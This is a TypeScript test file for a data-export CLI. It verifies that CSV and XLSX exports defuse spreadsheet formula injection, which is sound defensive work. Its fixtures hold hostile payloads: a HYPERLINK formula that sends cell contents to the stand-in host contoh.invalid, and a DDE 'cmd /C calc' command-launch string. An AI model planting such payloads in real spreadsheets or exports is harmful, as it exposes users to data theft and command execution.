// Safe outputs (issue 8, item 6): spreadsheet exports neutralise formula injection. A dataset
// whose cells (and metadata title) start with =, +, -, @, TAB is exported with
// `satudata export --format csv|xlsx`: every formula-like cell gets a leading ' (OWASP), numbers
// and the lone "-" stay as they are, and the XLSX holds no formula cell at all (parsed with
// exceljs). The machine-readable JSON export keeps the values unchanged.
// The audit log being append-only (UPDATE/DELETE refused by triggers) is asserted in
// tests/unit/store/workspace.test.ts ("records actions with who and when, and refuses updates and
// deletes").
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { assertBuilt, satudata, tempDir } from '../support/cli';

const CELLS: [string, string][] = [
  // [as imported, as a spreadsheet export must write it]
  ['=1+1', "'=1+1"],
  [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    '\'=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  ],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['\t=1+2', "'\t=1+2"],
  ['-12', '-12'],
  ['+3,5', '+3,5'],
  ['-1.234,56', '-1.234,56'],
  ['-', '-'],
  ['biasa', 'biasa'],
];
const TITLE = '=HYPERLINK("http://contoh.invalid","judul berbahaya")';

let dir = '';
let ws = '';
let id = '';

beforeAll(() => {
  assertBuilt();
  dir = tempDir('sdw-export-safety-');
  ws = join(dir, 'ws.db');
  const csv = join(dir, 'rumus.csv');
  const quote = (s: string): string => `"${s.replace(/"/g, '""')}"`;
  writeFileSync(
    csv,
    ['no,isi', ...CELLS.map(([cell], i) => `${i + 1},${quote(cell)}`)].join('\r\n') + '\r\n',
  );
  const imp = satudata(['import', csv, '--workspace', ws]);
  expect(imp.code, imp.stderr).toBe(0);
  id = imp.stdout.trim();
  const meta = join(dir, 'metadata.json');
  writeFileSync(meta, JSON.stringify({ profil: 'sdi-dataset', judul: TITLE }));
  const set = satudata([
    'metadata',
    'set',
    id,
    meta,
    '--profile',
    'sdi-dataset',
    '--workspace',
    ws,
  ]);
  expect(set.code, set.stderr).toBe(0);
});

describe('formula injection in spreadsheet exports', () => {
  it('CSV: every formula-like cell starts with a quote; numbers and "-" are untouched', () => {
    const out = join(dir, 'hasil.csv');
    const r = satudata(['export', id, '--format', 'csv', '--out', out, '--workspace', ws]);
    expect(r.code, r.stderr).toBe(0);
    const rows = Papa.parse<string[]>(readFileSync(out, 'utf8').trim(), { newline: '\r\n' }).data;
    expect(rows[0]).toEqual(['no', 'isi']);
    expect(rows.slice(1).map((row) => row[1])).toEqual(CELLS.map(([, want]) => want));
  });

  it('XLSX: no formula cell anywhere, cells are text with the quote, the metadata title too', async () => {
    const out = join(dir, 'hasil.xlsx');
    const r = satudata(['export', id, '--format', 'xlsx', '--out', out, '--workspace', ws]);
    expect(r.code, r.stderr).toBe(0);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    let formulas = 0;
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas++;
        }),
      ),
    );
    expect(formulas).toBe(0);
    const data = book.worksheets[0];
    const values: unknown[] = [];
    data?.eachRow((row, n) => {
      if (n > 1) values.push(row.getCell(2).value);
    });
    expect(values).toEqual(CELLS.map(([, want]) => want));
    const texts: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) => row.eachCell((cell) => texts.push(String(cell.value ?? '')))),
    );
    expect(texts).toContain(`'${TITLE}`);
    expect(texts).not.toContain(TITLE);
  });

  it('JSON (machine-readable) keeps the values exactly as imported', () => {
    const out = join(dir, 'hasil.json');
    const r = satudata(['export', id, '--format', 'json', '--out', out, '--workspace', ws]);
    expect(r.code, r.stderr).toBe(0);
    const rows = JSON.parse(readFileSync(out, 'utf8')) as Record<string, string>[];
    expect(rows.map((row) => row['isi'])).toEqual(CELLS.map(([cell]) => cell));
  });
});
